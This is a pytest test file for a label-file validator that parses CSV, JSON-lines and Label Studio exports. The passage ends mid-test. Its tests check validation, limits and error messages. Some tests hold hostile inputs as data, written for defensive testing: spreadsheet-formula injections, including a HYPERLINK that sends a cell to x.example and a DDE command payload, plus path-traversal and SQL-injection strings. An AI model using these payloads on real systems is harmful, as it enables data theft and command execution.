"""Label files: al_core.labels (readers / validator) and `al labels check`."""

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest

import al_core.labels as L
from al_core.labels import LabelError, LabelRow, ParsedLabels, parse_label_file, write_error_report

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "examples" / "cifar10-2k"
CLASSES = tuple(sorted(p.name for p in SAMPLES.iterdir() if p.is_dir()))


def _sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _sample_files(cls: str, n: int) -> list[Path]:
    return sorted(p for p in (SAMPLES / cls).iterdir() if p.is_file())[:n]


# Real image ids: sha256 of sample files, 3 per class for 3 classes.
IDS = {c: [_sha(p) for p in _sample_files(c, 3)] for c in ("cat", "dog", "ship")}
KNOWN = frozenset(i for v in IDS.values() for i in v)
CAT, DOG, SHIP = IDS["cat"], IDS["dog"], IDS["ship"]
UNKNOWN = hashlib.sha256(b"not an image of the store").hexdigest()


@pytest.fixture(autouse=True, params=["reference", "polars"])
def csv_reader(request, monkeypatch):
    """Every test runs twice: with the reference CSV reader, and with the polars path tried on every CSV file."""
    if request.param == "polars":
        monkeypatch.setattr(L.csv_polars, "POLARS_CSV_MIN_BYTES", 0)
    return request.param


def parse(tmp_path, content, name="labels.csv", **kw) -> ParsedLabels:
    p = tmp_path / name
    p.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    kw.setdefault("classes", CLASSES)
    kw.setdefault("known_image_ids", KNOWN)
    return parse_label_file(p, **kw)


def csv_text(rows, header=("image_id", "label", "annotator")) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def only_error(parsed: ParsedLabels) -> LabelError:
    assert not parsed.ok
    assert parsed.rows == ()  # a bad file is rejected whole: nothing to half-apply
    assert len(parsed.errors) == 1, parsed.errors
    return parsed.errors[0]


def ls_ann(aid, label, *, cancelled=False, by=1, created="2024-05-01T10:00:00Z", updated=None, extra=None):
    a = {
        "id": aid,
        "was_cancelled": cancelled,
        "completed_by": by,
        "created_at": created,
        "updated_at": updated or created,
        "lead_time": 2.5,
        "ground_truth": False,
        "task": 1,
        "project": 1,
        "result": []
        if label is None
        else [
            {
                "id": f"r{aid}",
                "type": "choices",
                "from_name": "label",
                "to_name": "image",
                "origin": "manual",
                "value": {"choices": [label]},
            }
        ],
    }
    a.update(extra or {})
    return a


def ls_task(tid, image_id, anns, **extra):
    t = {
        "id": tid,
        "data": {"image": f"/data/local-files/?d={str(image_id)[:8]}.jpg", "image_id": image_id},
        "annotations": anns,
        "predictions": [],
        "drafts": [],
        "meta": {},
        "inner_id": tid,
        "created_at": "2024-05-01T09:00:00Z",
        "updated_at": "2024-05-01T09:00:00Z",
    }
    t.update(extra)
    return t


def ls_text(tasks, indent=2) -> str:
    return json.dumps(tasks, indent=indent)


# ---------------------------------------------------------------- valid files
def test_valid_csv(tmp_path):
    text = csv_text([(CAT[0], "cat", "alice"), (DOG[0], "dog", "bob"), (SHIP[0], "ship", "")])
    p = parse(tmp_path, text)
    assert p.ok and p.errors == () and p.format == "csv"
    assert p.sha256 == hashlib.sha256(text.encode()).hexdigest()
    assert p.rows == (
        LabelRow(2, CAT[0], "cat", False, "alice", None, None),
        LabelRow(3, DOG[0], "dog", False, "bob", None, None),
        LabelRow(4, SHIP[0], "ship", False, None, None, None),
    )
    s = p.summary()
    assert s["labels"] == {"cat": 1, "dog": 1, "ship": 1} and s["skips"] == 0
    assert s["annotators"] == {"alice": 1, "bob": 1} and s["rows_without_annotator"] == 1


def test_csv_optional_columns_any_order_bom_crlf_and_quoted_newline(tmp_path):
    body = f'note,label,annotation_id,image_id\r\n"two\r\nlines",cat,a-1,{CAT[0]}\r\n  ,  dog  ,,  {DOG[0]}  \r\n\r\n'
    p = parse(tmp_path, b"\xef\xbb\xbf" + body.encode())
    assert p.ok, p.errors
    assert p.rows[0] == LabelRow(2, CAT[0], "cat", False, None, "a-1", "two\r\nlines")
    # surrounding whitespace is trimmed; nothing else
    assert p.rows[1] == LabelRow(4, DOG[0], "dog", False, None, None, None)


def test_skip_label_rows(tmp_path):
    p = parse(tmp_path, csv_text([(CAT[0], "skip", "alice"), (DOG[0], "dog", "alice")]))
    assert p.ok
    assert p.rows[0].is_skip and p.rows[0].label == "skip"
    assert not p.rows[1].is_skip
    assert p.summary()["skips"] == 1 and p.summary()["labels"] == {"dog": 1}
    # a configured skip label replaces the default one
    p = parse(tmp_path, csv_text([(CAT[0], "unsure", "a")]), skip_label="unsure")
    assert p.ok and p.rows[0].is_skip
    p = parse(tmp_path, csv_text([(CAT[0], "skip", "a")]), skip_label="unsure")
    assert "not a class" in only_error(p).message


def test_same_label_twice_is_counted_once(tmp_path):
    # one annotator answering the same twice: counted once (the first row kept); two annotators: two answers
    p = parse(
        tmp_path,
        csv_text(
            [
                (CAT[0], "cat", "alice"),
                (DOG[0], "dog", ""),
                (CAT[0], "cat", "alice"),
                (CAT[0], "cat", "bob"),
                (DOG[0], "dog", ""),
            ]
        ),
    )
    assert p.ok and p.warnings == ()
    assert [(r.image_id, r.annotator, r.line) for r in p.rows] == [
        (CAT[0], "alice", 2),
        (DOG[0], None, 3),
        (CAT[0], "bob", 5),
    ]
    assert p.n_duplicates == 2 and p.n_records == 5


def test_csv_injection_is_stored_verbatim(tmp_path):
    evil = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
    rows = [
        (CAT[i % 3] if i < 3 else DOG[i - 3], "cat" if i < 3 else "dog", a, f"note {a}") for i, a in enumerate(evil)
    ]
    p = parse(tmp_path, csv_text(rows, header=("image_id", "label", "annotator", "note")))
    assert p.ok, p.errors
    assert [r.annotator for r in p.rows] == evil
    assert [r.note for r in p.rows] == [f"note {a}" for a in evil]
    # as a label, such a value is simply not a class
    e = only_error(parse(tmp_path, csv_text([(CAT[0], "=1+2", "a")])))
    assert (e.line, e.field) == (2, "label") and "not a class" in e.message and e.value_preview == "'=1+2'"


def test_two_annotators_disagreeing_are_both_kept(tmp_path):
    # two annotators, two labels for one image: two answers (labels.policy decides), no error, no warning
    p = parse(tmp_path, csv_text([(CAT[0], "cat", "a"), (DOG[0], "dog", "a"), (CAT[0], "dog", "b")]))
    assert p.ok and p.warnings == ()
    assert [(r.image_id, r.label, r.annotator) for r in p.rows] == [
        (CAT[0], "cat", "a"),
        (DOG[0], "dog", "a"),
        (CAT[0], "dog", "b"),
    ]


def test_one_annotator_answering_twice_keeps_both_with_a_warning(tmp_path):
    # the same annotator (named, or unnamed) giving two labels: both rows kept, the later counts; a warning says so
    for who in ("a", ""):
        p = parse(tmp_path, csv_text([(CAT[0], "skip", who), (DOG[0], "dog", who), (CAT[0], "cat", who)]))
        assert p.ok and p.errors == ()
        assert [(r.line, r.label) for r in p.rows] == [(2, "skip"), (3, "dog"), (4, "cat")]
        (w,) = p.warnings
        assert (w.line, w.field) == (4, "label") and "'cat' here and 'skip' at line 2" in w.message
        assert "only their later answer counts" in w.message and str(w).startswith("line 4 [label]: image ")


# ---------------------------------------------------------------- bad CSV


@pytest.mark.parametrize(
    "bad_id, why",
    [
        ("../x", "looks like a path"),
        ("../../etc/passwd", "looks like a path"),
        ("/etc/passwd", "looks like a path"),
        ("C:\\images\\cat.jpg", "looks like a path"),
        ("a" * 10_000, "10000 characters long"),
        ("'; DROP TABLE labels; --", "24 characters long"),
        ("x' OR '1'='1" + "0" * 52, "other than 0-9 a-f"),
        (CAT[0].upper(), "uppercase"),
        (CAT[0][:63], "63 characters long"),
    ],
)
def test_bad_image_ids(tmp_path, bad_id, why):
    e = only_error(parse(tmp_path, csv_text([(DOG[0], "dog", "a"), (bad_id, "cat", "a")])))
    assert (e.line, e.field) == (3, "image_id")
    assert "exactly 64 lowercase hex characters" in e.message and why in e.message
    assert e.value_preview.startswith(repr(bad_id[:10])[:-1])
    assert len(e.value_preview) < 120  # truncated, whatever the input


def test_unknown_and_missing_image_id(tmp_path):
    e = only_error(parse(tmp_path, csv_text([(UNKNOWN, "cat", "a")])))
    assert (e.line, e.field) == (2, "image_id") and "unknown image_id" in e.message
    e = only_error(parse(tmp_path, csv_text([("  ", "cat", "a")])))
    assert (e.line, e.field, e.message) == (2, "image_id", "missing image_id")


@pytest.mark.parametrize(
    "label, hint",
    [
        ("Cat", "did you mean 'cat'?"),
        ("CAT", "did you mean 'cat'?"),
        ("Skip", "did you mean the skip label 'skip'?"),
        ("kitten", "classes: airplane, automobile"),
        ("cat; DROP TABLE labels", "classes:"),
        ("c\u0430t", "classes:"),  # Cyrillic a: not the class
    ],
)
def test_label_outside_classes(tmp_path, label, hint):
    e = only_error(parse(tmp_path, csv_text([(CAT[0], label, "a")])))
    assert (e.line, e.field) == (2, "label") and "not a class" in e.message and hint in e.message
    assert e.value_preview == repr(label)


def test_missing_label(tmp_path):
    e = only_error(parse(tmp_path, csv_text([(CAT[0], "", "a")])))
    assert (e.line, e.field, e.message) == (2, "label", "missing label")


def test_csv_header_errors(tmp_path):
    e = only_error(parse(tmp_path, f"image_id,label,annotator,score\n{CAT[0]},cat,a,0.9\n"))
    assert (e.line, e.field) == (1, "header") and "unknown column(s) 'score'" in e.message
    e = only_error(parse(tmp_path, f"image_id;label\n{CAT[0]};cat\n"))
    assert e.line == 1 and "delimiter must be a comma" in e.message
    e = only_error(parse(tmp_path, f"image_id,annotator\n{CAT[0]},a\n"))
    assert e.line == 1 and "missing column(s) label" in e.message
    e = only_error(parse(tmp_path, f"image_id,label,label\n{CAT[0]},cat,cat\n"))
    assert e.line == 1 and "duplicate column(s) 'label'" in e.message
    e = only_error(parse(tmp_path, f"{CAT[0]},cat\n{DOG[0]},dog\n"))
    assert e.line == 1 and "no header row" in e.message


def test_csv_wrong_cell_count_and_malformed_quoting(tmp_path):
    e = only_error(parse(tmp_path, f"image_id,label\n{CAT[0]},cat\n{DOG[0]},dog,extra\n"))
    assert e.line == 3 and "expected 2 cells" in e.message and "got 3" in e.message
    e = only_error(parse(tmp_path, f'image_id,label\n{CAT[0]},cat\n{DOG[0]},"dog"x\n{SHIP[0]},ship\n'))
    assert e.line == 3 and e.message.startswith("malformed CSV")
    e = only_error(parse(tmp_path, f'image_id,label\n{CAT[0]},"cat\n'))
    assert e.line == 2 and e.message.startswith("malformed CSV")


def test_empty_file_and_no_data_rows(tmp_path):
    e = only_error(parse(tmp_path, b""))
    assert (e.line, e.message) == (None, "empty file")
    e = only_error(parse(tmp_path, b"\n  \r\n"))
    assert e.line is None and e.message.startswith("empty file")
    e = only_error(parse(tmp_path, "image_id,label,annotator\n\n"))
    assert e.line is None and e.message.startswith("no data rows")
    p = parse(tmp_path, b"", name="x.jsonl")
    assert p.format == "jsonl" and not p.ok


# ---------------------------------------------------------------- bytes
def test_nul_byte(tmp_path):
    data = f"image_id,label\n{CAT[0]},cat\n{DOG[0]},d\x00og\n{SHIP[0]},ship\n".encode()
    e = only_error(parse(tmp_path, data))
    off = data.index(b"\x00")
    assert e.line == 3 and e.message == f"NUL byte at byte offset {off}"


def test_invalid_utf8_reports_byte_offset(tmp_path):
    data = f"image_id,label,annotator\n{CAT[0]},cat,al".encode() + b"\xff\xfeice\n" + f"{DOG[0]},dog,b\n".encode()
    e = only_error(parse(tmp_path, data))
    off = data.index(b"\xff")
    assert e.line == 2 and e.message.startswith(f"invalid UTF-8 at byte offset {off}")
    # the same in a Label Studio export (read as one document)
    doc = ls_text([ls_task(1, CAT[0], [ls_ann(1, "cat", by="alXXice")])])
    raw = doc.encode().replace(b"XX", b"\xff")
    e = only_error(parse(tmp_path, raw, name="x.json"))
    off = raw.index(b"\xff")
    assert e.message.startswith(f"invalid UTF-8 at byte offset {off}")
    assert e.line == doc[: doc.index("XX")].count("\n") + 1


def test_utf16_file_is_rejected(tmp_path):
    e = only_error(parse(tmp_path, csv_text([(CAT[0], "cat", "a")]).encode("utf-16")))
    assert e.line is None and "UTF-16" in e.message


def test_file_above_max_bytes(tmp_path):
    text = csv_text([(CAT[0], "cat", "a")])
    p = parse(tmp_path, text, max_bytes=50)
    e = only_error(p)
    assert e.line is None and f"{len(text)} bytes; the limit is 50 bytes" in e.message
    assert p.sha256 == hashlib.sha256(text.encode()).hexdigest()  # still identified, for the rejection record


def test_line_above_max_line_bytes_is_skipped_and_parsing_goes_on(tmp_path):
    text = f"image_id,label,note\n{CAT[0]},cat,{'x' * 500}\n{DOG[0]},Dog,\n"
    p = parse(tmp_path, text, max_line_bytes=200)
    assert not p.ok
    assert [(e.line, e.field) for e in p.errors] == [(2, None), (3, "label")]
    assert p.errors[0].message == f"line is {64 + 5 + 500} bytes long; the limit is 200 bytes"


def _write_huge_line(path: Path, prefix: bytes, suffix: bytes, n_mib: int = 100) -> None:
    block = b"a" * (1 << 20)
    with open(path, "wb") as f:
        f.write(prefix)
        for _ in range(n_mib):
            f.write(block)
        f.write(suffix)


def test_100_mb_line_is_rejected_without_reading_it_whole(tmp_path):
    path = tmp_path / "huge.csv"
    _write_huge_line(path, f"image_id,label\n{CAT[0]},cat\n".encode(), f"\n{DOG[0]},dog\n".encode())
    tracemalloc.start()
    try:
        t0 = time.perf_counter()
        p = parse_label_file(path, classes=CLASSES, known_image_ids=KNOWN)
        seconds = time.perf_counter() - t0
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    e = only_error(p)
    assert e.line == 3 and e.message == f"line is {100 << 20} bytes long; the limit is {L.MAX_LINE_BYTES} bytes"
    assert peak < 12 << 20, f"peak {peak / 2**20:.1f} MiB"  # a 100 MB line would need >= 100 MiB
    assert seconds < 10
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    assert p.sha256 == h.hexdigest()  # every byte hashed, the skipped line included


def test_100_mb_json_line_is_rejected_without_reading_it(tmp_path):
    # JSON lines: same bounded reader
    path = tmp_path / "huge.jsonl"
    _write_huge_line(path, b'{"image_id": "', b'", "label": "cat"}\n')
    tracemalloc.start()
    try:
        p = parse_label_file(path, classes=CLASSES, known_image_ids=KNOWN)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert only_error(p).line == 1 and "bytes long" in p.errors[0].message
    assert peak < 12 << 20
    # a Label Studio export is one document: above MAX_JSON_DOCUMENT_BYTES it is refused before reading
    path = tmp_path / "huge.json"
    _write_huge_line(path, b'[{"data": {"image_id": "', b'"}}]\n')
    tracemalloc.start()
    try:
        p = parse_label_file(path, classes=CLASSES, known_image_ids=KNOWN)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    e = only_error(p)
    assert e.line is None and "MAX_JSON_DOCUMENT_BYTES" in e.message and p.format == "label_studio"
    assert peak < 12 << 20


def test_unreadable_paths_do_not_raise(tmp_path):
    p = parse_label_file(tmp_path / "nope.csv", classes=CLASSES, known_image_ids=KNOWN)
    assert not p.ok and p.sha256 == "" and "cannot read the file" in p.errors[0].message
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    p = parse_label_file(fifo, classes=CLASSES, known_image_ids=KNOWN)  # would block if opened
    assert p.errors[0].message == "not a regular file"
    assert "not a regular file" in parse_label_file(tmp_path, classes=CLASSES, known_image_ids=KNOWN).errors[0].message


# ---------------------------------------------------------------- JSON lines
def jl(*objs) -> str:
    return "".join((o if isinstance(o, str) else json.dumps(o)) + "\n" for o in objs)


def test_valid_jsonl(tmp_path):
    p = parse(
        tmp_path,
        jl(
            {"image_id": CAT[0], "label": "cat", "annotator": "alice", "annotation_id": "7"},
            "",
            {"image_id": DOG[0], "label": "skip", "annotator": None, "note": "blurry"},
        ),
        name="l.jsonl",
    )
    assert p.ok and p.format == "jsonl"
    assert p.rows == (
        LabelRow(1, CAT[0], "cat", False, "alice", "7", None),
        LabelRow(3, DOG[0], "skip", True, None, None, "blurry"),
    )


@pytest.mark.parametrize(
    "key, value, got",
    [
        ("label", 3, "a number"),
        ("label", 3.5, "a number"),
        ("label", True, "a boolean"),
        ("label", ["cat"], "a list"),
        ("label", {"name": "cat"}, "an object"),
        ("label", None, "null"),
        ("image_id", 12345, "a number"),
        ("image_id", [1, 2], "a list"),
        ("annotator", 5, "a number"),
        ("annotation_id", 17, "a number"),
        ("note", {"x": 1}, "an object"),
        ("note", False, "a boolean"),
    ],
)
def test_jsonl_non_strings_are_rejected_not_coerced(tmp_path, key, value, got):
    row = {"image_id": CAT[0], "label": "cat", key: value}
    e = only_error(parse(tmp_path, jl({"image_id": DOG[0], "label": "dog"}, row), name="l.jsonl"))
    assert (e.line, e.field) == (2, key)
    assert e.message == f"{key} must be a string, got {got} (not converted)"


def test_jsonl_structural_errors(tmp_path):
    ok = {"image_id": DOG[0], "label": "dog"}
    cases = [
        ('{"image_id": "abc", "label": ', "malformed JSON at column"),
        (f'["{CAT[0]}", "cat"]', "must be an object, got a list"),
        ('"just a string"', "must be an object"),
        (json.dumps({"image_id": CAT[0], "label": "cat", "extra": 1}), "unknown key(s) 'extra'"),
        (json.dumps({"image_id": CAT[0]}), "missing 'label'"),
        (f'{{"image_id": "{CAT[0]}", "label": "cat", "label": "dog"}}', "duplicate key 'label'"),
        (f'{{"image_id": "{CAT[0]}", "label": "c\\u0000at"}}', "NUL character"),
        (f'{{"image_id": "{CAT[0]}", "label": "cat", "note": "\\ud800"}}', "unpaired surrogate"),
        ('{{"image_id": "{}", "label": {}}}'.format(CAT[0], "9" * 5000), "malformed JSON"),
    ]
    for line, expected in cases:
        e = only_error(parse(tmp_path, jl(ok, line), name="l.jsonl"))
        assert e.line == 2 and expected in e.message, (line[:60], e)


@pytest.mark.parametrize("depth", [L.MAX_JSON_DEPTH + 1, 200, 100_000])
def test_deeply_nested_json_line(tmp_path, depth):
    nested = "[" * depth + "]" * depth
    line = f'{{"image_id": "{CAT[0]}", "label": {nested}}}'
    e = only_error(parse(tmp_path, jl({"image_id": DOG[0], "label": "dog"}, line), name="l.jsonl"))
    assert e.line == 2 and e.message == f"JSON nested deeper than {L.MAX_JSON_DEPTH} levels"


def test_json_at_the_depth_limit_is_parsed(tmp_path):
    # depth MAX in an ignored-free position is still a type error, not a depth error
    nested = "[" * (L.MAX_JSON_DEPTH - 1) + "]" * (L.MAX_JSON_DEPTH - 1)
    e = only_error(parse(tmp_path, jl(f'{{"image_id": "{CAT[0]}", "label": {nested}}}'), name="l.jsonl"))
    assert "must be a string, got a list" in e.message


# ---------------------------------------------------------------- Label Studio
def test_label_studio_every_annotation_is_an_answer(tmp_path):
    tasks = [
        # two live annotations and a cancelled one: three answers, each with its annotator, task, time, lead_time
        ls_task(
            101,
            CAT[0],
            [
                ls_ann(
                    11,
                    "cat",
                    by={"id": 3, "email": "ann@example.org"},
                    created="2024-05-01T10:00:00Z",
                    updated="2024-05-03T08:00:00Z",
                ),
                ls_ann(12, "dog", by=4, created="2024-05-02T10:00:00Z"),
                ls_ann(13, "ship", cancelled=True, created="2024-05-09T10:00:00Z"),  # Skip: a skip, whatever its result
            ],
        ),
        # only cancelled annotations: two skips
        ls_task(102, DOG[0], [ls_ann(14, None, cancelled=True), ls_ann(15, "dog", cancelled=True, by=5)]),
        # no annotation at all (not labelled yet): no row, counted
        ls_task(103, DOG[1], [], drafts=[{"id": 1, "user": "x@example.org", "result": []}]),
        ls_task(
            104,
            SHIP[0],
            [
                ls_ann(21, "ship", created="2024-05-04T10:00:00+00:00", extra={"updated_at": None}),
                ls_ann(20, "skip", by=2, created="2024-05-04T12:00:00+02:00"),
            ],
        ),
        ls_task(105, SHIP[1], [ls_ann(30, "skip", by=9)]),
    ]
    p = parse(tmp_path, ls_text(tasks), name="export.json")
    assert p.ok, p.errors
    assert p.format == "label_studio" and p.n_cancelled == 3 and p.n_records == 5
    assert p.n_drafts == 1 and p.n_unanswered == 1 and p.warnings == ()
    got = [(r.image_id, r.label, r.is_skip, r.annotator, r.annotation_id, r.task_id) for r in p.rows]
    assert got == [
        (CAT[0], "cat", False, "ann@example.org", "11", "101"),
        (CAT[0], "dog", False, "4", "12", "101"),
        (CAT[0], "skip", True, "1", "13", "101"),
        (DOG[0], "skip", True, "1", "14", "102"),
        (DOG[0], "skip", True, "5", "15", "102"),
        (SHIP[0], "ship", False, "1", "21", "104"),
        (SHIP[0], "skip", True, "2", "20", "104"),
        (SHIP[1], "skip", True, "9", "30", "105"),
    ]
    first = p.rows[0]
    assert first.annotated_at.isoformat() == "2024-05-03T08:00:00+00:00"  # updated_at, else created_at (UTC)
    assert p.rows[5].annotated_at.isoformat() == "2024-05-04T10:00:00+00:00"
    assert (first.seconds, first.seconds_source) == (2.5, "lead_time")
    assert p.users == {"3": "ann@example.org"}
    # the tasks with several answers are listed, newest first
    assert [d["task_id"] for d in p.decisions] == [101, 102, 104]
    d = p.decisions[0]
    assert d["image_id"] == CAT[0] and d["rule"] == L.ANSWER_RULE
    assert [(a["annotation_id"], a["label"], a["cancelled"]) for a in d["answers"]] == [
        ("13", "skip", True),
        ("11", "cat", False),
        ("12", "dog", False),
    ]
    # each row names the line where its task starts
    text = ls_text(tasks)
    assert first.line == text[: text.index('"id": 101')].count("\n")


def test_label_studio_user_id_becomes_the_email_the_file_shows(tmp_path):
    tasks = [
        ls_task(1, CAT[0], [ls_ann(1, "cat", by=7)]),
        ls_task(2, DOG[0], [ls_ann(2, "dog", by={"id": 7, "email": "eve@example.org"})]),
    ]
    p = parse(tmp_path, ls_text(tasks), name="e.json")
    assert p.ok and [r.annotator for r in p.rows] == ["eve@example.org", "eve@example.org"]


def test_label_studio_empty_annotation_is_a_warning_naming_task_and_annotation(tmp_path):
    tasks = [
        ls_task(1, CAT[0], [ls_ann(1, "cat")]),
        ls_task(4, DOG[0], [ls_ann(3, None)]),
        ls_task(5, SHIP[0], [ls_ann(6, "ship", extra={"result": [{"type": "choices", "value": {"choices": []}}]})]),
    ]
    p = parse(tmp_path, ls_text(tasks, indent=None), name="e.json")
    assert p.ok and [r.image_id for r in p.rows] == [CAT[0]]  # the rest of the file is applied
    assert p.n_empty == 2 and p.n_unanswered == 2
    w = p.warnings[0]
    assert (w.task_id, w.annotation_id, w.field) == ("4", "3", "annotations[0].result")
    assert str(w).startswith("task 4, annotation 3 (line 1) [annotations[0].result]: empty annotation")
    assert (p.warnings[1].task_id, p.warnings[1].annotation_id) == ("5", "6")
    # a file holding nothing but an empty annotation is accepted, with nothing to apply and its warning
    p = parse(tmp_path, ls_text([ls_task(4, DOG[0], [ls_ann(3, None)])]), name="e.json")
    assert p.ok and p.rows == () and p.n_warnings == 1


def test_label_studio_minified_export_and_same_result(tmp_path):
    tasks = [ls_task(1, CAT[0], [ls_ann(1, "cat")]), ls_task(2, DOG[0], [ls_ann(2, "dog")])]
    a = parse(tmp_path, ls_text(tasks, indent=None), name="a.json")
    b = parse(tmp_path, ls_text(tasks, indent=4), name="b.json")
    assert a.ok and b.ok
    assert [(r.image_id, r.label) for r in a.rows] == [(r.image_id, r.label) for r in b.rows]
    assert {r.line for r in a.rows} == {1}


def _ls_errors(tmp_path, tasks_or_text):
    text = tasks_or_text if isinstance(tasks_or_text, str) else ls_text(tasks_or_text)
    return parse(tmp_path, text, name="bad.json")


def test_label_studio_bad_tasks(tmp_path):
    good = ls_task(1, DOG[0], [ls_ann(1, "dog")])
    cases = [
        (ls_task(2, 12345, [ls_ann(2, "cat")]), "data.image_id", "must be a string, got a number"),
        ({**ls_task(2, CAT[0], []), "data": {"image": "x.jpg"}}, "data.image_id", "missing 'image_id'"),
        ({"id": 2, "data": {"image_id": CAT[0]}}, "annotations", "not a task of Label Studio's JSON export"),
        (
            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"was_cancelled": "no"})]),
            "annotations[0].was_cancelled",
            "must be true or false",
        ),
        (ls_task(2, CAT[0], [ls_ann("2", "cat")]), "annotations[0].id", "must be an integer"),
        (
            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"updated_at": "yesterday"})]),
            "annotations[0].updated_at",
            "not an ISO 8601 time",
        ),
        (
            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": {"choices": ["cat"]}})]),
            "annotations[0].result",
            "result must be a list",
        ),
        (
            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"lead_time": "3"})]),
            "annotations[0].lead_time",
            "lead_time must be a number of seconds",
        ),
        (
            ls_task(
                2,
                CAT[0],
                [ls_ann(2, "cat", extra={"result": [{"type": "choices", "value": {"choices": ["cat", "dog"]}}]})],
            ),
            "annotations[0].result[0].value.choices",
            "exactly one label, got 2 choices",
        ),
        (
            ls_task(2, CAT[0], [ls_ann(2, "cat", extra={"result": [{"type": "choices", "value": {"choices": [7]}}]})]),
            "annotations[0].result[0].value.choices",
            "must be a string, got a number",
        ),
        (ls_task(2, CAT[0], [ls_ann(2, "Cat")]), "annotations[0].result", "did you mean 'cat'?"),
        (ls_task(2, "../../etc/passwd", [ls_ann(2, "cat")]), "data.image_id", "looks like a path"),
        (ls_task(2, CAT[0], [ls_ann(2, "cat", by=[1])]), "annotations[0].completed_by", "user id"),
        # every annotation must hold a valid label, an older one too
        (
            ls_task(2, CAT[0], [ls_ann(2, "cat", updated="2024-06-01T00:00:00Z"), ls_ann(3, "kitten")]),
            "annotations[1].result",
            "not a class",
        ),
        (ls_task(2, CAT[0], [ls_ann(2, "cat"), ls_ann(2, "cat")]), "annotations", "same annotation id"),
        ("a task", None, "must be a JSON object"),
    ]
    for task, field, expected in cases:
        p = _ls_errors(tmp_path, [good, task])
        e = only_error(p)
        assert expected in e.message and (field is None or e.field.endswith(field)), (task, e)
        assert e.line == 2 + ls_text([good]).count("\n") - 1, e  # the line where the second task starts
        if isinstance(task, dict):
            assert e.task_id == "2" and str(e).startswith("task 2"), e  # the Label Studio task names it


def test_label_studio_same_image_in_two_tasks_is_one_rule(tmp_path):
    # the same batch imported twice: two tasks for one image. Two annotators: two answers (no error); one
    # annotator labelling both copies differently: both kept with a warning, their later answer counts
    two = [ls_task(1, CAT[0], [ls_ann(1, "cat", by=1)]), ls_task(2, CAT[0], [ls_ann(2, "dog", by=2)])]
    p = parse(tmp_path, ls_text(two), name="e.json")
    assert p.ok and p.warnings == () and [(r.label, r.annotator) for r in p.rows] == [("cat", "1"), ("dog", "2")]
    one = [ls_task(1, CAT[0], [ls_ann(1, "cat", by=1)]), ls_task(2, CAT[0], [ls_ann(2, "dog", by=1)])]
    p = parse(tmp_path, ls_text(one), name="e.json")
    assert p.ok and [(r.label, r.task_id) for r in p.rows] == [("cat", "1"), ("dog", "2")]
    (w,) = p.warnings
    assert (w.task_id, w.annotation_id) == ("2", "2") and "'dog' here and 'cat' at task 1, annotation 1" in w.message


def test_label_studio_malformed_json(tmp_path):
    good = ls_text([ls_task(1, CAT[0], [ls_ann(1, "cat")])])
    cases = [
        (good[:-10], "malformed JSON"),
        (good[:-1] + ",]", "trailing comma"),
        (good[:-1] + " {}]", "expected ',' or ']'"),
        (good + " []", "extra data after the array"),
        (good.replace('"meta": {}', '"meta": {"x": 1, "x": 2}', 1), "duplicate key 'x'"),
        (
            '[{"id": 1, "data": {"image_id": "' + CAT[0] + '"}, "meta": ' + "[" * 50 + "]" * 50 + "}]",
            f"deeper than {L.MAX_JSON_DEPTH}",
        ),
        ("[" * 100_000, "deeper than"),
        ("[]", "no data rows"),
    ]
    for text, expected in cases:
        p = _ls_errors(tmp_path, text)
        assert not p.ok and p.rows == ()
        assert any(expected in e.message for e in p.errors), (text[-40:], p.errors)


def test_label_studio_depth_limit_counts_the_enclosing_array(tmp_path):
    def doc(k):  # depth: array 1 + task 1 + k
        t = ls_text([ls_task(1, CAT[0], [ls_ann(1, "cat")])], indent=None)
        return t.replace('"meta": {}', '"meta": ' + "[" * k + "]" * k)

    assert parse(tmp_path, doc(L.MAX_JSON_DEPTH - 2), name="e.json").ok
    p = parse(tmp_path, doc(L.MAX_JSON_DEPTH - 1), name="e.json")
    assert only_error(p).message == f"task #1: JSON nested deeper than {L.MAX_JSON_DEPTH} levels"
    # a task whose only brackets are its nesting (no other bracket to trip the quick count)
    text = '[{"meta": ' + "[" * (L.MAX_JSON_DEPTH - 1) + "]" * (L.MAX_JSON_DEPTH - 1) + "}]"
    assert "nested deeper" in only_error(parse(tmp_path, text, name="e.json")).message


def test_label_studio_nul_byte(tmp_path):
    raw = ls_text([ls_task(1, CAT[0], [ls_ann(1, "cat")])]).encode().replace(b'"cat"', b'"c\x00at"')
    e = only_error(parse(tmp_path, raw, name="e.json"))
    off = raw.index(b"\x00")
    assert e.message == f"NUL byte at byte offset {off}" and e.line == raw[:off].count(b"\n") + 1 > 1


# ---------------------------------------------------------------- Label Studio: what the outbox writes
def test_label_studio_config_lists_every_class_and_the_skip_label():
    import xml.etree.ElementTree as ET

    classes = ("cat", "dog", 'a "quoted" & <odd> class')
    root = ET.fromstring(L.label_studio_config(classes, "unsure"))
    assert root.tag == "View"
    image, choices = list(root)
    assert (image.tag, image.get("name"), image.get("value")) == ("Image", "image", "$image")
    assert choices.tag == "Choices" and choices.get("choice") == "single" and choices.get("toName") == "image"
    assert choices.get("required") == "true" and choices.get("name") == L.CHOICES_NAME == "label"
    assert [c.get("value") for c in choices] == [*classes, "unsure"]  # every value survives XML quoting
    assert {c.tag for c in choices} == {"Choice"}


def test_label_studio_tasks_carry_the_batch():
    ids = [CAT[0], DOG[1], SHIP[2]]
    paths = {CAT[0]: "/p/cat/a.jpg", DOG[1]: "/p/dog/b c.png", SHIP[2]: "/p/ship/c.jpg"}
    template = "/files/{name}?p={path}&i={image_id}&r={relpath}&u={url_path}"
    tasks = L.label_studio_tasks(
        3,
